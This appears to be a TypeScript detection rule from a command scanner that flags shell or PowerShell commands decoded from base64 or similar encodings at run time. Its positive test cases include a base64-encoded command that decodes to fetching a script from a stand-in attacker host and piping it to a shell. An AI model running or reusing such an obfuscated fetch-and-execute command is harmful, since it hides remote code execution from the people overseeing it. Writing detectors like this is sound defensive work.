import { defineRule, type Hit } from './rule.js';

export const rule = defineRule({
  id: 'decoded_execution',
  category: 'obfuscation',
  severity: 'critical',
  technique: 'T1140',
  title: 'Runs a command that was hidden in an encoding (base64, hex, -EncodedCommand) until run time',
  check(ctx) {
    const hits: Hit[] = [];
    const seen = new Set<string>();
    for (const inv of ctx.invocations) {
      if (!inv.decoded) continue;
      const key = `${inv.span.start}:${inv.span.end}`;
      if (seen.has(key)) continue;
      seen.add(key);
      const shown = [inv.written, ...inv.args].join(' ');
      hits.push({ span: inv.span, explanation: `runs a hidden command that only appears after decoding: ${shown.length > 80 ? shown.slice(0, 77) + '…' : shown}` });
    }
    return hits;
  },
  cases: {
    positive: [['bash', 'echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d | bash'], ['bash', 'bash -c "$(echo aWQ= | base64 --decode)"'], ['powershell', 'powershell -e VwByAGkAdABlAC0ASABvAHMAdAAgAGgAaQA=']],
    negative: [['bash', 'echo aGVsbG8= | base64 -d'], ['bash', 'base64 -d cert.b64 > cert.pem']],
  },
});
